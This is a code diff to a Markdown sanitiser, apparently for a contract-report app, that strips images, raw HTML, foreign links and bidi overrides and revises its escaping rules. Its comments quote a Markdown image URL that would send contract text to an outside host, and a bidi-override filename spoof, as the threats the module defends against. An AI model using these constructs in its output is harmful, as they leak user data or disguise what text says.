@@ -5,10 +5,11 @@ text: `![x](https://host/p.png?q=<contract text>)` in it would make the browser 
 `host` the moment the report is drawn. Recognising the dangerous constructs in the source text is
 fragile (reference definitions, angle-bracket destinations, entities, autolink literals), so this
 module works the other way round: it parses the text with markdown-it-py and writes Markdown back
-from the parse tree, escaping every ASCII punctuation character of every piece of text. The output
-holds no Markdown syntax except the structure written here — headings, lists, quotes, tables, code,
-emphasis and links to the contract's own hosts — so whatever parser draws it (Streamlit's differs
-from markdown-it in details) finds no image, no raw HTML and no autolink in it:
+from the parse tree, escaping every character of every piece of text that could start syntax. The
+output holds no Markdown syntax except the structure written here — headings, lists, quotes,
+tables, code, emphasis and links to the contract's own hosts — so whatever parser draws it
+(Streamlit's differs from markdown-it in details) finds no image, no raw HTML and no autolink in
+it:
 
 - an image becomes its alt text and "(image not loaded: `url`)";
 - a link to a host the contract does not name becomes its text and the URL in a code span;
@@ -28,17 +29,17 @@ from markdown_it import MarkdownIt
 from markdown_it.tree import SyntaxTreeNode
 
 # What is escaped in text: the characters that start Markdown syntax anywhere in a line (Streamlit
-# adds `$` for maths and `:` for its colours, icons and emoji); the list, heading, quote and
-# underline markers, and a list number's `.` or `)`, only where a line may begin (a text piece's
-# start); a `:` unless a space follows it. The rest of the punctuation (sentences'
-# commas, full stops, quotes, brackets) is left as written, so the downloaded file reads as text.
-_ESCAPED = re.compile(
-    r"[\\`*_{}\[\]<>|$~^&!]"
-    r"|^[ \t]*[-+=#>]"
-    r"|^(?:[ \t]*\d{1,9})?[.)]"
-    r"|:(?!\s)",
-    re.MULTILINE,
-)
+# adds `$` for maths and `:` for its colours, icons and emoji; a `#` run closes a heading); the
+# list and underline markers, and a list number's `.` or `)`, only at a text piece's start, where
+# a line may begin; a `:` unless a space follows it. The rest of the punctuation (sentences'
+# commas, full stops, quotes, brackets) is left as written, so a downloaded file reads as text.
+_ALWAYS = str.maketrans({ch: "\\" + ch for ch in "\\`*_{}[]<>|$~^&!#"})
+_LINE_MARKER = re.compile(r"^([ \t]*)([-+=])")
+_LIST_NUMBER = re.compile(r"^([ \t]*\d{0,9})([.)])(?=[ \t]|$)")
+_COLON = re.compile(r":(?!\s)")
+# A line break inside a text piece comes only from an entity (`&#10;`, `&#13;`): written out, it
+# would start a line the parse never had (`*&#13;*` is emphasis; written bare, a list item).
+_LINE_BREAKS = str.maketrans("\r\n", "  ")
 # Bidirectional embeddings, overrides and isolates: they make text show in another order than it
 # is written ("invoice\u202efdp.exe" reads "invoiceexe.pdf"), so a model's words could show as
 # something else. Dropped from all Markdown the app draws and every file it writes (`without_bidi`);
@@ -115,12 +116,11 @@ def _literal(text: str, in_table: bool = False) -> str:
 
 
 def _escaped(text: str) -> str:
-    return _ESCAPED.sub(lambda match: _escape_last(match.group()), text)
-
-
-def _escape_last(run: str) -> str:
-    """A marker after the spaces that open its line: only the marker is escaped."""
-    return f"{run[:-1]}\\{run[-1]}"
+    text = text.translate(_LINE_BREAKS).translate(_ALWAYS)
+    if ":" in text:
+        text = _COLON.sub(r"\\:", text)
+    text = _LINE_MARKER.sub(r"\1\\\2", text, count=1)
+    return _LIST_NUMBER.sub(r"\1\\\2", text, count=1)
 
 
 def safe_markdown(text: str, allowed_hosts: Iterable[str] = ()) -> str:
@@ -190,8 +190,19 @@ class _Writer:
 
     # Blocks -------------------------------------------------------------------------------
     def blocks(self, nodes: Iterable[SyntaxTreeNode | str], separator: str = "\n\n") -> str:
-        rendered = (node if isinstance(node, str) else self.block(node) for node in nodes)
-        return separator.join(part for part in rendered if part)
+        parts: list[str] = []
+        last_list: tuple[str, str] | None = None  # the list just written: its kind and marker
+        for node in nodes:
+            if isinstance(node, str):
+                part, mark = node, None
+            elif node.type in ("bullet_list", "ordered_list"):
+                part, mark = self.list_(node, last_list)
+            else:
+                part, mark = self.block(node), None
+            if part:
+                parts.append(part)
+                last_list = mark
+        return separator.join(parts)
 
     def block(self, node: SyntaxTreeNode) -> str:
         kind = node.type
@@ -202,12 +213,11 @@ class _Writer:
             return "#" * level + " " + self.inline_of(node, one_line=True)
         if kind == "blockquote":
             return _prefix(self.blocks(node.children), "> ", "> ")
-        if kind in ("bullet_list", "ordered_list"):
-            return self.list_(node)
         if kind in ("fence", "code_block"):
             return self.fence(node)
         if kind == "hr":
-            return "---"
+            # Not "---" nor "***": in a list item, "- ---" and "* ***" are each a rule alone.
+            return "___"
         if kind == "table":
             return self.table(node)
         if kind == "html_block":
@@ -217,7 +227,11 @@ class _Writer:
             return self.blocks(node.children)
         return escape_markdown(node.content)
 
-    def list_(self, node: SyntaxTreeNode) -> str:
+    def list_(
+        self, node: SyntaxTreeNode, after: tuple[str, str] | None
+    ) -> tuple[str, tuple[str, str]]:
+        """The list, and its kind and marker: a list written just `after` one of the same kind
+        and marker takes the other marker, or the two would read as one list."""
         tight = all(
             grand.hidden
             for item in node.children
@@ -229,12 +243,14 @@ class _Writer:
         number = int(node.attrs.get("start", 1)) if ordered else 0
         delimiter = node.markup if node.markup in (".", ")") else "."
         bullet = node.markup if node.markup in ("-", "*", "+") else "-"
+        if after == (node.type, delimiter if ordered else bullet):
+            delimiter, bullet = ")" if delimiter == "." else ".", "*" if bullet == "-" else "-"
         items = []
         for offset, item in enumerate(node.children):
             marker = f"{number + offset}{delimiter} " if ordered else f"{bullet} "
             body = self.blocks(item.children, separator)
             items.append(_prefix(body, marker, " " * len(marker)))
-        return separator.join(items)
+        return separator.join(items), (node.type, delimiter if ordered else bullet)
 
     def fence(self, node: SyntaxTreeNode) -> str:
         content = node.content if node.content.endswith("\n") else node.content + "\n"
@@ -288,7 +304,14 @@ class _Writer:
             return _code_span(content)
         if kind in ("em", "strong", "s"):
             mark = "~~" if kind == "s" else node.markup
-            return mark + self.inlines(node.children, one_line, in_table) + mark
+            inner = self.inlines(node.children, one_line, in_table)
+            # Emphasis cannot open or close on a space (an entity can put one there): written
+            # around it, the marks would be text, or a list item at a line's start.
+            core = inner.strip()
+            if not core:
+                return inner
+            start = inner.index(core)
+            return f"{inner[:start]}{mark}{core}{mark}{inner[start + len(core) :]}"
         if kind == "link":
             return self.link(node, one_line, in_table)
         if kind == "image":
